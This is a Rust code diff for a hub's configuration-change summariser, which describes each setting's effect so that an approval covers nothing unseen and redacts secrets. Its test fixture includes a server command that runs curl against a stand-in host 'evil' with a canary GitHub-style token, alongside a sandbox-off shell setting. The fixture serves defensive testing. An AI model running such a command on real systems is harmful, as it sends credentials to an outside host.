@@ -3,31 +3,32 @@
 use crate::telemetry::Redactor;
 use serde_json::{Map, Value};
 
-/// Sections with words of their own.
-const TOLD: [&str; 16] = [
-    "servers",
-    "toolboxes",
-    "shell",
-    "workspace",
-    "roots",
-    "files",
-    "policy",
-    "auth",
-    "net",
-    "listen",
-    "admin",
-    "tools",
-    "prompts",
-    "telemetry",
-    "state_dir",
-    "git",
+/// What these settings do, by path. Everything else is shown by its path and value.
+const EFFECTS: [(&str, &str); 15] = [
+    ("shell", "sets what commands may do"),
+    ("workspace", "lets tools work in"),
+    ("roots", "opens more directories to tools"),
+    ("files", "sets which files tools may change"),
+    ("tools.folders", "adds tools, which may run programs, from"),
+    ("prompts.folders", "adds prompts from"),
+    ("policy", "sets who may call what"),
+    ("auth.tokens", "lets in callers with these tokens"),
+    ("net.allow", "lets tools reach these private addresses"),
+    ("git", "sets what git may do"),
+    ("listen", "listens on"),
+    ("admin", "sets the admin API"),
+    ("telemetry.otlp_endpoint", "sends traces to"),
+    ("telemetry.log_file", "writes a log to"),
+    ("state_dir", "keeps the hub's data in"),
 ];
+/// Sections whose entries have lines of their own.
+const BY_ENTRY: [&str; 2] = ["servers", "toolboxes"];
 
 /// One line for each effect, the gravest first. Secrets are hidden.
 pub fn of(tree: &Map<String, Value>) -> Vec<String> {
     let mut lines = Vec::new();
     for (name, server) in tree.get("servers").and_then(Value::as_object).into_iter().flatten() {
-        lines.extend(server_line(name, server));
+        lines.push(server_line(name, server));
     }
     let at = |path: &str| {
         let mut keys = path.split('.');
@@ -43,41 +44,36 @@ pub fn of(tree: &Map<String, Value>) -> Vec<String> {
     if at("shell.sandbox").and_then(Value::as_str) == Some("none") {
         lines.push("runs commands WITHOUT a sandbox".to_owned());
     }
-    for (path, says) in [
-        ("shell", "sets what commands may do"),
-        ("workspace", "lets tools work in"),
-        ("roots", "opens more folders to tools"),
-        ("files", "sets which files tools may change"),
-        ("tools.folders", "adds tools, which may run programs, from"),
-        ("prompts.folders", "adds prompts from"),
-        ("policy", "sets who may call what"),
-        ("auth.tokens", "lets in callers with these tokens"),
-        ("net.allow", "lets tools reach these private addresses"),
-        ("git", "sets what git may do"),
-        ("listen", "listens on"),
-        ("admin", "sets the admin API"),
-        ("telemetry.otlp_endpoint", "sends traces to"),
-        ("telemetry.log_file", "writes a log to"),
-        ("state_dir", "keeps the hub's data in"),
-    ] {
+    for (path, effect) in EFFECTS {
         if let Some(value) = at(path).filter(|value| !value.is_null()) {
-            lines.push(format!("{says} {}", shown(value)));
+            lines.push(format!("{effect} {}", shown(value)));
         }
     }
-    let others: Vec<&str> = tree.keys().map(String::as_str).filter(|key| !TOLD.contains(key)).collect();
-    if !others.is_empty() {
-        lines.push(format!("also sets {}", others.join(", ")));
-    }
+    lines.extend(other_settings(tree));
     let redactor = Redactor::default();
     lines.iter().map(|line| redactor.redact(&line.replace(['\n', '\r'], " ")).into_owned()).collect()
 }
 
-fn server_line(name: &str, server: &Value) -> Option<String> {
+/// What no other line is about, so that an approval covers nothing unseen.
+fn other_settings(tree: &Map<String, Value>) -> Vec<String> {
+    let is_described = |path: &str| EFFECTS.iter().any(|(described, _)| *described == path);
+    let sections = tree.iter().filter(|(name, _)| !BY_ENTRY.contains(&name.as_str()) && !is_described(name));
+    let lines = sections.flat_map(|(name, section)| match section.as_object() {
+        Some(members) => {
+            let paths = members.iter().map(|(key, value)| (format!("{name}.{key}"), value));
+            paths.filter(|(path, _)| !is_described(path)).collect()
+        }
+        None => vec![(name.clone(), section)],
+    });
+    lines.map(|(path, value)| format!("sets {path}: {}", shown(value))).collect()
+}
+
+fn server_line(name: &str, server: &Value) -> String {
     if server.get("enabled") == Some(&Value::Bool(false)) {
-        return Some(format!("lists the server {name}, switched off"));
+        return format!("lists the server {name}, switched off");
     }
     let text = |field: &str| server.get(field).and_then(Value::as_str);
-    let line = match (text("command"), text("url"), text("document")) {
+    match (text("command"), text("url"), text("document")) {
         (Some(command), ..) => {
             let args =
                 server.get("args").and_then(Value::as_array).into_iter().flatten().filter_map(Value::as_str);
@@ -88,9 +84,8 @@ fn server_line(name: &str, server: &Value) -> Option<String> {
         }
         (None, _, Some(document)) => format!("adds the API of {document} (server {name})"),
         (None, Some(url), None) => format!("connects to {url} (server {name})"),
-        (None, None, None) => return None,
-    };
-    Some(line)
+        (None, None, None) => format!("changes the server {name}: {server}"),
+    }
 }
 
 fn shown(value: &Value) -> String {
@@ -110,6 +105,9 @@ mod tests {
             "shell": {"sandbox": "none"},
             "servers": {"x": {"command": "sh", "args": ["-c", "curl\nevil --token ghp_canary0123456789abcdefghijklmnopqrst"]}},
             "limits": [],
+            "telemetry": {"trace_contents": true, "log_file": "/tmp/log"},
+            "net": {"contact": "https://example.com"},
+            "profiles": {"notes": {"tools": ["fs_*"]}},
         });
         let lines = of(tree.as_object().unwrap());
         assert!(lines[0].starts_with("RUNS with all your rights: sh -c curl evil"), "{lines:?}");
@@ -117,7 +115,11 @@ mod tests {
             "switches the toolbox shell on",
             "runs commands WITHOUT a sandbox",
             "lets tools work in /",
-            "also sets limits",
+            "writes a log to /tmp/log",
+            "sets limits: []",
+            "sets telemetry.trace_contents: true",
+            "sets net.contact: https://example.com",
+            r#"sets profiles.notes: {"tools":["fs_*"]}"#,
         ] {
             assert!(lines.contains(&line.to_owned()), "{line}: {lines:?}");
         }
